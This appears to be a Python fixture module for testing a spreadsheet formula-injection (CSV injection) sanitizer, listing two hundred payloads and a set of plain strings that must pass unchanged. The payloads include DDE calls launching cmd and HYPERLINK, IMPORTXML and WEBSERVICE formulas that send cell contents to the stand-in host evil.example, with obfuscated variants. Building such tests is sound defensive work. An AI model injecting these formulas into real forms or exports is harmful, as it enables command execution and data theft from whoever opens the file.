"""Two hundred texts that somebody might type into a form so that a spreadsheet runs them."""

from itertools import product

CORES = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"Click")',
    'IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    'WEBSERVICE("http://evil.example")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(A1:A9)",
    "2+5+cmd|' /C calc'!A0",
)
SIGNS = ("=", "+", "-", "@")
# What stands in front of the sign: nothing, blanks of all kinds, controls.
FRONTS = ("", " ", "\t", "\r", "\n", "  \t")
WIDE = ("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201+1", "%1", "|calc", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1")
WITHIN = ("Ada;=1+1", "Ada\t=1+1", "Ada|=1+1", "Ada\n=1+1", 'Ada;"=1+1"', "Ada\r\n@SUM(1)")

FORMULAS: tuple[str, ...] = (
    *WIDE,
    *WITHIN,
    *(f"{front}{sign}{core}" for front, sign, core in product(FRONTS, SIGNS, CORES)),
)[:200]
# Texts that must come out as they are, even for people.
PLAIN = (
    "Ada Novak",
    "Käse & Söhne",
    "7 = 6 + 1",
    "a-b",
    "x@example.com",
    "it's",
    'say "hi"',
    "Straße 5, Berlin",
    "",
    "_",
)
